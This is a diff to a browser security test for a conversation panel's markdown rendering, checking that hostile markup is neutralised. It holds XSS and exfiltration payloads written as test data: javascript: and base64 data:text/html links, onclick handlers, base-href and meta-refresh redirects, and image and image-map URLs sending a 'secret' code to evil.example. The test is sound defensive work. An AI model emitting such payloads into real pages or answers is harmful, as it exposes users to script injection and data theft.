@@ -26,7 +26,8 @@ const HOSTILE_ANSWER = [
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<a href="https://example.com/ok" target="_blank" onclick="window.__hostile.push(\'onclick\')">safe link</a>',
-  '<img src="http://evil.example/pixel.png" alt="plain http pixel"> <img src="https://localhost:9/logo.png" alt="https image">',
+  '<img src="http://evil.example/pixel.png" alt="plain http pixel"> <img src="https://evil.example/q?code=secret" alt="https image">',
+  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline png" usemap="#m"><map name="m"><area href="https://evil.example/area" shape="rect" coords="0,0,9,9"></map>',
   '',
   '[markdown js link](javascript:window.__hostile.push("md-js"))',
   '[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
@@ -69,9 +70,10 @@ describe('conversation panel: security', function () {
         handlers: all.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
         styled: all.filter((node) => node.hasAttribute('style')).length,
         targets: all.filter((node) => node.hasAttribute('target')).length,
+        // Inline raster images are the one data: URL allowed (checked below).
         badHrefs: all
           .flatMap((node) => ['href', 'src', 'xlink:href', 'action', 'data'].map((name) => node.getAttribute(name) ?? ''))
-          .filter((value) => /^\s*(javascript|data|vbscript):/i.test(value)),
+          .filter((value) => /^\s*(javascript|data|vbscript):/i.test(value) && !/^data:image\/png;/.test(value)),
         scripts: document.scripts.length,
       };
     });
@@ -83,11 +85,11 @@ describe('conversation panel: security', function () {
 
     assert.equal(await markdown.locator('a', { hasText: 'safe link' }).getAttribute('href'), 'https://example.com/ok');
     assert.ok((await markdown.textContent())!.includes('styled paragraph'), 'content survives, its style does not');
-    assert.deepEqual(
-      await markdown.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src'))),
-      [null, null, 'https://localhost:9/logo.png', null],
-      'images load only over https',
-    );
+    const images = await markdown.locator('img').evaluateAll((nodes) => nodes.map((image) => [image.getAttribute('src'), image.getAttribute('usemap')]));
+    assert.ok(images.every(([src]) => src === null || src.startsWith('data:image/png;')), `only inline images: ${JSON.stringify(images)}`);
+    assert.ok(images.some(([src]) => src?.startsWith('data:image/png;')), 'an inline image is kept');
+    assert.ok(images.every(([, usemap]) => usemap === null), 'no image maps');
+    assert.equal(await markdown.locator('map, area').count(), 0);
     assert.match((await markdown.locator('pre code').textContent())!, /<script>shown as code, not run<\/script>/);
     assert.ok(await page.locator('.question').isVisible(), 'no stylesheet hid the page');
     assert.deepEqual(requested.filter((url) => url.includes('evil.example')), [], 'nothing hostile was fetched');
